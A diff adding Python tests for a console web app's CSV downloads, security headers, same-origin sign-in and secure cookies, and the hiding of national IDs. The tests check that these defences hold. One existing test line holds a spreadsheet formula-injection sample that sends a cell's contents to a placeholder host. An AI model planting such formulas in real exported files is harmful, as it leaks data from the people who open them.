@@ -315,6 +315,40 @@ def test_csv_cells_that_a_spreadsheet_would_run_stay_text():
     rows = [{"reason": '=HYPERLINK("http://x/?"&A2,"ok")', "n": -5, "name": "@SUM(A1)"}]
     text = csv_bytes(rows, ("reason", "n", "name")).decode("utf-8-sig")
     assert text.splitlines()[1] == '"\'=HYPERLINK(""http://x/?""&A2,""ok"")",-5,\'@SUM(A1)'
+    decimals = [{"t": "-1.500000", "y": "-2", "f": "-1+1", "g": "-1.5e3"}]
+    line = csv_bytes(decimals, ("t", "y", "f", "g")).decode("utf-8-sig").splitlines()[1]
+    assert line == "-1.500000,-2,'-1+1,'-1.5e3"  # decimal strings stay numbers, the rest text
+
+
+def test_console_downloads_and_sign_in_hold_the_pages_rules(node, http, monkeypatch):
+    import dataclasses
+
+    from api.console.render import HEADERS
+
+    regulator, bank = node.tokens.create("regulator")[1], node.tokens.create("bank:bank01")[1]
+    for name, token in (("enterprises.csv", regulator), ("accounts.csv", bank)):
+        response = http.get(f"/console/download/{name}", cookies={"cl_session": token})
+        assert response.status_code == 200, name
+        for header, value in HEADERS.items():  # no-store: not left in a shared PC's cache
+            assert response.headers[header] == value, (name, header)
+    form = {"token": regulator}
+    assert http.post("/console/sign-in", data=form, follow_redirects=False).status_code == 403
+    same = {"Origin": "http://testserver"}
+    plain = http.post("/console/sign-in", data=form, headers=same, follow_redirects=False)
+    assert plain.status_code == 303 and "secure" not in plain.headers["set-cookie"].lower()
+    monkeypatch.setattr(node, "settings", dataclasses.replace(node.settings, production=True))
+    behind_tls = http.post("/console/sign-in", data=form, headers=same, follow_redirects=False)
+    assert "secure" in behind_tls.headers["set-cookie"].lower()
+
+
+def test_a_bank_console_never_looks_up_or_shows_what_is_not_a_pseudonym(node, http):
+    national_id = "33080219900101123X"
+    page = http.get(
+        f"/console/bank?pid={national_id}",
+        cookies={"cl_session": node.tokens.create("bank:bank01")[1]},
+    )
+    assert page.status_code == 200 and national_id not in page.text
+    assert 'pattern="[a-z2-7]{52}"' in page.text  # the browser will not send one either
 
 
 def test_a_farm_whose_code_holds_a_colon_gets_only_its_own_feed():
